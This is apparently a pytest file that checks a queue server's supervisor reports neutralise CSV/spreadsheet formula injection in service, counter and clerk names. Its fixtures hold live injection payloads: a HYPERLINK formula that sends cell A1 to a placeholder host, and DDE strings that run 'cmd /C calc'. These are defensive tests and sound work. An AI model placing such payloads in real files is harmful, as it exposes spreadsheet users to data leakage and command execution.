"""Reports cannot attack the supervisor's spreadsheet: names are never formulas (issue 15)."""
import csv
import io

import pytest
from openpyxl import load_workbook

from queue_server.models import Counter, Service, User

from . import scenario

RANGE = "from=2024-03-04&to=2024-03-04"
SERVICE = '=HYPERLINK("http://x/?"&A1,"click")'
OTHER_SERVICE = "-2+3"
COUNTER = "=1+2"
OTHER_COUNTER = "+cmd|' /C calc'!A0"
CLERK = '=HYPERLINK("http://x/","me")'
OTHER_CLERK = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_names(office):
    Service.update(name_vi=SERVICE).where(Service.code == "A").execute()
    Service.update(name_vi=OTHER_SERVICE).where(Service.code == "B").execute()
    Counter.update(name=COUNTER).where(Counter.number == 1).execute()
    Counter.update(name=OTHER_COUNTER).where(Counter.number == 2).execute()
    User.update(full_name=CLERK).where(User.username == "clerk1").execute()
    User.update(full_name=OTHER_CLERK).where(User.username == "clerk2").execute()
    scenario.build(office)


def _login(client):
    assert client.post("/login", data={"username": "supervisor",
                                       "password": "demo"}).status_code == 302


@pytest.mark.parametrize("group, names", [("service", [SERVICE, OTHER_SERVICE]),
                                          ("counter", [COUNTER, OTHER_COUNTER]),
                                          ("clerk", [CLERK, OTHER_CLERK])])
def test_the_xlsx_holds_the_names_as_text_and_no_formula(client, hostile_names, group, names):
    _login(client)
    response = client.get(f"/supervisor/reports.xlsx?{RANGE}&group={group}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    labels = [c.value for c in sheet["A"]]
    for name in names:
        assert name in labels  # shown as typed, as plain text


@pytest.mark.parametrize("group, names", [("service", [SERVICE, OTHER_SERVICE]),
                                          ("counter", [COUNTER, OTHER_COUNTER]),
                                          ("clerk", [CLERK, OTHER_CLERK])])
def test_the_csv_neutralises_cells_a_spreadsheet_would_evaluate(client, hostile_names, group,
                                                                names):
    _login(client)
    text = client.get(f"/supervisor/reports.csv?{RANGE}&group={group}").data.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    for name in names:
        assert "'" + name in cells


def test_csv_text_prefixes_every_dangerous_start():
    from queue_server.engine.stats.export import csv_text

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(start + "1") == "'" + start + "1"
    assert csv_text("Hộ tịch") == "Hộ tịch" and csv_text(-5) == -5 and csv_text(None) == ""
